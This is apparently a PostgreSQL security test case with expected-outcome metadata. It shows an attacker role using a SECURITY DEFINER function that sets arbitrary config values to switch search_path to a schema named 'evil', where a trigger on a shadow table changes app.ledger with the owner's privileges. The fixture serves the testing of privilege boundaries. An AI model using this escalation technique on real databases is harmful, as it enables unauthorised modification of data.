-- A function of the owner's makes a setting what its caller says, and then looks a table up
-- expect: B
-- base: revoked
-- loses: immutability
--> setup
CREATE SCHEMA evil AUTHORIZATION {x};
SET ROLE {owner};
CREATE TABLE app.notes (line text);
CREATE FUNCTION app.note(wanted text, given text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = app, pg_temp
AS $$ BEGIN PERFORM set_config(wanted, given, true); INSERT INTO notes VALUES ('called'); END $$;
RESET ROLE;
--> as x
CREATE TABLE evil.notes (line text);
CREATE FUNCTION evil.go() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN UPDATE app.ledger SET status = ''changed''; RETURN NEW; END';
CREATE TRIGGER go BEFORE INSERT ON evil.notes FOR EACH ROW EXECUTE FUNCTION evil.go();
GRANT USAGE ON SCHEMA evil TO {owner};
GRANT INSERT ON evil.notes TO {owner};
SELECT app.note('search_path', 'evil');
